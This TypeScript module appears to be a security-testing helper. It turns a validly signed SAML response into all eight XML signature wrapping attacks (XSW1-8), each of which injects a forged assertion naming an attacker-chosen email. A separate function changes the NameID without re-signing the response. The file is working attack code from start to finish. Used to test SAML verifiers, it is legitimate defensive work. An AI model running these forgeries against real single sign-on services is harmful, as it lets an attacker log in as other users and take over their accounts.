// XML signature wrapping (XSW 1-8, Somorovsky et al., "On Breaking SAML", USENIX Security 2012):
// each variant keeps the original signed element where a verifier may still find it and adds an
// evil assertion about another user where a careless consumer would read it.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

type El = Element;
const first = (parent: El | Document, ns: string, name: string): El => {
  const found = (parent as El).getElementsByTagNameNS(ns, name)[0];
  if (!found) throw new Error(`no ${name}`);
  return found as unknown as El;
};
const directChild = (parent: El, ns: string, name: string): El | undefined =>
  Array.from({ length: parent.childNodes.length }, (_, i) => parent.childNodes.item(i)).find((n) => n.nodeType === 1 && (n as El).namespaceURI === ns && (n as El).localName === name) as El | undefined;

function evilAssertionFrom(original: El, email: string, keepSignature: boolean): El {
  const evil = original.cloneNode(true) as El;
  evil.setAttribute('ID', '_evil-assertion');
  first(evil, SAML, 'NameID').textContent = email;
  if (!keepSignature) {
    const sig = directChild(evil, DS, 'Signature');
    if (sig) evil.removeChild(sig);
  }
  return evil;
}

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const RESPONSE_SIGNED_VARIANTS: XswVariant[] = ['XSW1', 'XSW2'];
export const ASSERTION_SIGNED_VARIANTS: XswVariant[] = ['XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];

/** Rewrites a validly signed response (base64) into the given wrapping attack about `evilEmail`. */
export function wrap(samlResponse: string, variant: XswVariant, evilEmail: string): string {
  const doc = new DOMParser().parseFromString(Buffer.from(samlResponse, 'base64').toString('utf8'), 'text/xml') as unknown as Document;
  const root = doc.documentElement as unknown as El;
  const assertion = directChild(root, SAML, 'Assertion')!;
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // The whole signed response copied away; the outer one now says something else.
      const signature = directChild(root, DS, 'Signature')!;
      const copy = root.cloneNode(true) as El;
      const copySig = directChild(copy, DS, 'Signature');
      if (copySig) copy.removeChild(copySig);
      root.setAttribute('ID', '_evil-response');
      first(assertion, SAML, 'NameID').textContent = evilEmail;
      if (variant === 'XSW1') signature.appendChild(copy);
      else root.insertBefore(copy, signature);
      break;
    }
    case 'XSW3':
      root.insertBefore(evilAssertionFrom(assertion, evilEmail, false), assertion);
      break;
    case 'XSW4': {
      const evil = evilAssertionFrom(assertion, evilEmail, false);
      root.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5': {
      // The evil assertion carries the signature; the original, unsigned, moves to the end.
      const evil = evilAssertionFrom(assertion, evilEmail, true);
      const sig = directChild(assertion, DS, 'Signature')!;
      assertion.removeChild(sig);
      root.replaceChild(evil, assertion);
      root.appendChild(assertion);
      break;
    }
    case 'XSW6': {
      const evil = evilAssertionFrom(assertion, evilEmail, true);
      const sig = directChild(assertion, DS, 'Signature')!;
      assertion.removeChild(sig);
      root.replaceChild(evil, assertion);
      directChild(evil, DS, 'Signature')!.appendChild(assertion);
      break;
    }
    case 'XSW7': {
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions') as unknown as El;
      root.replaceChild(evilAssertionFrom(assertion, evilEmail, false), assertion);
      extensions.appendChild(assertion);
      root.insertBefore(extensions, directChild(root, SAMLP, 'Status') ?? null);
      break;
    }
    case 'XSW8': {
      const evil = evilAssertionFrom(assertion, evilEmail, true);
      const sig = directChild(assertion, DS, 'Signature')!;
      assertion.removeChild(sig);
      root.replaceChild(evil, assertion);
      const object = doc.createElementNS(DS, 'ds:Object') as unknown as El;
      object.appendChild(assertion);
      directChild(evil, DS, 'Signature')!.appendChild(object);
      break;
    }
  }
  return Buffer.from(new XMLSerializer().serializeToString(doc as unknown as Node)).toString('base64');
}

/** Changes the NameID of a signed response without re-signing it. */
export function tamperNameId(samlResponse: string, email: string): string {
  const xml = Buffer.from(samlResponse, 'base64').toString('utf8');
  return Buffer.from(xml.replace(/(<(?:saml2?:)?NameID[^>]*>)[^<]*(<\/)/, `$1${email}$2`)).toString('base64');
}
